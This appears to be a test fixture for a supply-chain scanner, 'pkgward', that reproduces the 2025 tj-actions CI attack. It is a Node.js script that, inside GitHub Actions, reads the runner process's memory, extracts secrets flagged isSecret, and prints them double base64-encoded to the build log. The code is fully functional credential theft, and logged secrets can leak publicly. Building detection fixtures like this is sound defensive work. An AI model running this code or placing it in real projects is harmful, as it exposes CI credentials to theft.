// DEFANGED TEST FIXTURE for pkgward: CI runner memory scraping (2025 tj-actions shape). Only prints to the log; sends nothing. Never run.
'use strict';
const fs = require('fs');
const { execSync } = require('child_process');
if (process.env.GITHUB_ACTIONS) {
  const pid = execSync("pgrep -f Runner.Worker | head -n1").toString().trim();
  const maps = fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\n');
  const fd = fs.openSync('/proc/' + pid + '/mem', 'r');
  for (const line of maps) {
    const m = line.match(/^([0-9a-f]+)-([0-9a-f]+) r/);
    if (!m) continue;
    const start = parseInt(m[1], 16), len = parseInt(m[2], 16) - start;
    const buf = Buffer.alloc(Math.min(len, 1 << 20));
    try { fs.readSync(fd, buf, 0, buf.length, start); } catch (e) { continue; }
    const hits = buf.toString('latin1').match(/"[^"]+":\{"value":"[^"]*","isSecret":true\}/g);
    if (hits) console.log(Buffer.from(Buffer.from(hits.join('\n')).toString('base64')).toString('base64'));
  }
}
